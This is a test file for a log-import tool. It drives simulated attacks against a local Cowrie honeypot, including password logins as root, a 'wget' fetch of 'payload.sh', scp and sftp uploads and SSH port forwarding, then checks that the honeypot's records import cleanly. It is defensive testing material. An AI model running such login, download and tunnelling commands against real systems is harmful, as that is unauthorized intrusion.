import { deepEqual, equal, ok } from "../assert.ts";
import { type Honeypot, startHoneypot } from "./honeypot.ts";
import { install } from "./installation.ts";

const HOST = "root@127.0.0.1";
const PASSWORD = { password: "toor" };

type LogRecord = { readonly eventid: string; readonly [name: string]: unknown };

/** What attackers do, and how to recognise the record that Cowrie makes of it. */
const EXPECTED: readonly (readonly [what: string, is: (record: LogRecord) => boolean])[] = [
  ["login by key", ({ eventid, key }) => eventid === "cowrie.login.failed" && key !== undefined],
  [
    "refused password",
    ({ eventid, password }) => eventid === "cowrie.login.failed" && password === "root",
  ],
  ["login by password", ({ eventid }) => eventid === "cowrie.login.success"],
  ["command", ({ eventid }) => eventid === "cowrie.command.input"],
  ["unknown command", ({ eventid }) => eventid === "cowrie.command.failed"],
  [
    "download",
    ({ eventid, url }) => eventid === "cowrie.session.file_download" && url !== undefined,
  ],
  ["failed download", ({ eventid }) => eventid === "cowrie.session.file_download.failed"],
  [
    "capture of redirected output",
    ({ eventid, destfile }) => eventid === "cowrie.session.file_download" && destfile === "/tmp/x",
  ],
  [
    "capture of standard input",
    ({ eventid, destfile }) => eventid === "cowrie.session.file_download" && destfile === "",
  ],
  [
    "upload by scp",
    ({ eventid, message }) =>
      eventid === "cowrie.session.file_upload" && String(message).startsWith("SCP"),
  ],
  [
    "upload by sftp",
    ({ eventid, message }) =>
      eventid === "cowrie.session.file_upload" && String(message).startsWith("SFTP"),
  ],
  ["forward", ({ eventid }) => eventid === "cowrie.direct-tcpip.request"],
  ["forwarded data", ({ eventid }) => eventid === "cowrie.direct-tcpip.data"],
  ["end of a session", ({ eventid }) => eventid === "cowrie.session.closed"],
];

const EVENTS =
  /^cowrie\.(?:login|command\.(?:input|success|failed)|direct-tcpip\.(?:request|data)$|session\.file)/;

async function attackInAllWays({ attack, key, server }: Honeypot): Promise<void> {
  const keyOnly = [
    "-i",
    key,
    "-o",
    "IdentitiesOnly=yes",
    "-o",
    "PreferredAuthentications=publickey",
  ];
  await attack("ssh", [...keyOnly, HOST, "id"], PASSWORD);
  await attack("ssh", [HOST, "id"], { password: "root" });
  const commands = `uname -a; echo hello > /tmp/x; wget ${server}/payload.sh; nosuchcmd; ` +
    "wget http://127.0.0.1:1/none";
  await attack("ssh", [HOST, commands], PASSWORD);
  await attack("ssh", [HOST, "cat > /tmp/y"], { ...PASSWORD, input: "payload\n" });
  await attack("scp", ["-O", key, `${HOST}:/tmp/scp`], PASSWORD);
  await attack("sftp", [HOST], { ...PASSWORD, input: `put ${key} /tmp/sftp\n` });
  await attack("ssh", ["-W", "192.0.2.9:80", HOST], {
    ...PASSWORD,
    input: "GET / HTTP/1.0\r\n\r\n",
  });
  await attack("ssh", ["-tt", HOST], { ...PASSWORD, input: "ls\nexit\n" });
}

Deno.test("archive import rejects no record of a live Cowrie", async (test) => {
  const honeypot = await startHoneypot();
  if (honeypot === undefined) {
    console.log("This test is skipped: it needs Python with venv and pip");
    return;
  }
  const installation = await install({});
  try {
    await attackInAllWays(honeypot);
    const log = await honeypot.stop();
    const lines = (await Deno.readTextFile(log)).trimEnd().split("\n");
    const records = lines.map((line): LogRecord => JSON.parse(line));
    for (const [what, is] of EXPECTED) {
      await test.step(`Cowrie records: ${what}`, () => ok(records.some(is), lines.join("\n")));
    }
    const { code, out, err } = await installation.run(
      "import",
      log,
      "--type",
      "cowrie",
      "--org",
      "ab".repeat(32),
      "--strict",
      "--json",
    );
    equal(code, 0, err);
    const [{ events, rejected }] = JSON.parse(out);
    deepEqual(rejected, []);
    equal(events, records.filter(({ eventid }) => EVENTS.test(eventid)).length);
  } finally {
    await installation.close();
    await honeypot.close();
  }
});
